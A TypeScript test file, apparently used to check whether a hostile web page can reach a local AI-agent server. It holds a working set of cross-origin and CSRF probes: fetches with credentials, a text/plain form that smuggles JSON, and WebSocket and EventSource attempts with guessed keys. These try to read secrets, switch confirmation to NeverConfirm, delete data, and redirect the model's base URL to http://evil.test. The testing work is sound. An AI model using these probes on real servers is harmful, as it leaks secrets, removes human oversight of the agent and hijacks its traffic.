export interface Target {
  /** Where the attacker believes the server to be. */
  url: string
  conversation: string
  secret: string
}

/**
 * What a hostile page can try, and everything that it got to see. It is run inside the page, so it must not refer to
 * anything outside of itself. Every attempt ends by an event; the deadline is only for browsers that swallow one.
 */
export async function attack({ url, conversation, secret }: Target): Promise<string[]> {
  const seen: string[] = []
  const pending: Promise<unknown>[] = []
  const attempt = (attempted: Promise<unknown>) => {
    const deadline = new Promise(resolve => setTimeout(resolve, 5000, 'nothing came'))
    const ended = Promise.race([attempted, deadline]).then(JSON.stringify, String)
    pending.push(ended.then(text => seen.push(text)))
  }

  const reads = [
    '/',
    '/server_info',
    '/api/conversations/search',
    `/api/conversations/${conversation}`,
    `/api/conversations/${conversation}/events/search`,
    '/api/settings',
    '/api/settings/secrets',
    `/api/settings/secrets/${secret}`,
    '/api/profiles',
    '/metrics',
  ]
  const message = { role: 'user', content: [{ type: 'text', text: 'attacked' }], run: true }
  const order = { agent: { kind: 'Agent', llm: { model: 'attacked' } }, workspace: { working_dir: '/attacked' } }
  const writes: [method: string, path: string, body?: unknown][] = [
    ['POST', '/api/conversations', order],
    ['POST', `/api/conversations/${conversation}/events`, message],
    ['POST', `/api/conversations/${conversation}/run`],
    ['POST', `/api/conversations/${conversation}/events/respond_to_confirmation`, { accept: true }],
    ['POST', `/api/conversations/${conversation}/confirmation_policy`, { policy: { kind: 'NeverConfirm' } }],
    ['POST', `/api/conversations/${conversation}/secrets`, { secrets: { ATTACKED: 'attacked' } }],
    ['POST', `/api/conversations/${conversation}/switch_llm`, { llm: { base_url: 'http://evil.test' } }],
    ['POST', `/api/conversations/${conversation}/ask_agent`, { question: 'attacked' }],
    ['POST', `/api/conversations/${conversation}/fork`],
    ['POST', `/api/conversations/${conversation}/interrupt`],
    ['POST', '/api/profiles/attacked', { llm: { base_url: 'http://evil.test' } }],
    ['POST', '/api/settings', { language: 'attacked', llm_base_url: 'http://evil.test' }],
    ['PATCH', '/api/settings', { agent_settings_diff: { llm: { base_url: 'http://evil.test' } } }],
    ['PUT', '/api/settings/secrets', { name: 'ATTACKED', value: 'attacked' }],
    ['DELETE', `/api/settings/secrets/${secret}`],
    ['DELETE', `/api/conversations/${conversation}`],
    ['DELETE', '/api/auth/sign-in'],
  ]

  const ask = async (path: string, init: RequestInit) => {
    const response = await fetch(url + path, init)
    return [response.type, response.status, [...response.headers], await response.text()]
  }
  const viaFetch = () => {
    const ways: RequestInit[] = [
      { mode: 'cors', credentials: 'include' },
      { mode: 'cors', credentials: 'omit' },
      { mode: 'cors', credentials: 'include', headers: { 'Content-Type': 'application/json' } },
      { mode: 'no-cors', credentials: 'include' },
    ]
    for (const way of ways) {
      for (const path of reads) attempt(ask(path, way))
      for (const [method, path, body] of writes)
        attempt(ask(path, { ...way, method, ...(body !== undefined && { body: JSON.stringify(body) }) }))
    }
    const exposing = { 'X-Expose-Secrets': 'plaintext', 'X-Session-API-Key': '' }
    attempt(ask('/api/settings', { credentials: 'include', headers: exposing }))
    for (const [, path, body] of writes)
      attempt(Promise.resolve(navigator.sendBeacon(url + path, JSON.stringify(body))))
  }

  /** Loads something as part of the page, and tells what the page can see of it. */
  const viaElement = (tag: 'img' | 'script' | 'iframe' | 'link' | 'object' | 'video', path: string) => {
    const element = document.createElement(tag)
    const ended = new Promise(resolve => {
      element.onload = () => resolve(`${tag} loaded`)
      element.onerror = () => resolve(`${tag} failed`)
    })
    if (element instanceof HTMLLinkElement) Object.assign(element, { rel: 'stylesheet', href: url + path })
    else if (element instanceof HTMLObjectElement) element.data = url + path
    else element.src = url + path
    document.body.append(element)
    return ended.then(what => {
      let text: unknown
      try {
        text = element instanceof HTMLIFrameElement ? element.contentDocument?.documentElement.outerHTML : undefined
      } catch (error) {
        text = String(error)
      }
      return [what, text, element instanceof HTMLImageElement ? element.naturalWidth : undefined]
    })
  }

  /** A form needs no permission to send: JSON hides in the name of a text/plain field. */
  const viaForm = (path: string, body: unknown) => {
    const frame = document.createElement('iframe')
    frame.name = `frame-${Math.random()}`
    document.body.append(frame)
    const form = document.createElement('form')
    Object.assign(form, { action: url + path, method: 'post', enctype: 'text/plain', target: frame.name })
    const input = document.createElement('input')
    const [before, after] = JSON.stringify({ ...(body as object), x: '=' }).split('=') as [string, string]
    Object.assign(input, { name: before, value: after })
    form.append(input)
    document.body.append(form)
    const ended = new Promise(resolve => {
      frame.onload = () => resolve('form sent')
    })
    form.submit()
    return ended
  }

  const viaEventSource = () =>
    new Promise(resolve => {
      const got: unknown[] = []
      const stream = new EventSource(`${url}/api/conversations/${conversation}/events/stream`, {
        withCredentials: true,
      })
      stream.onmessage = event => got.push(event.data)
      stream.onerror = () => {
        stream.close()
        resolve(['event source', got])
      }
    })

  const viaSocket = (query: string, ...frames: unknown[]) =>
    new Promise(resolve => {
      const got: unknown[] = []
      const socket = new WebSocket(
        `${url.replace('http', 'ws')}/sockets/events/${conversation}?resend_mode=all${query}`,
      )
      socket.onopen = () => {
        for (const frame of frames) socket.send(JSON.stringify(frame))
      }
      socket.onmessage = event => got.push(event.data)
      socket.onclose = event => resolve(['socket', event.code, got])
    })

  viaFetch()
  for (const tag of ['img', 'script', 'link', 'video'] as const)
    for (const path of reads) attempt(viaElement(tag, path))
  for (const tag of ['iframe', 'object'] as const)
    for (const path of ['/', '/api/conversations/search', `/api/settings/secrets/${secret}`])
      attempt(viaElement(tag, path))
  for (const [, path, body] of writes) attempt(viaForm(path, body ?? {}))
  attempt(viaEventSource())
  attempt(viaSocket('', message))
  attempt(viaSocket('', { type: 'auth', session_api_key: 'guess' }, message))
  attempt(viaSocket('&session_api_key=guess', message))
  await Promise.all(pending)
  return seen
}
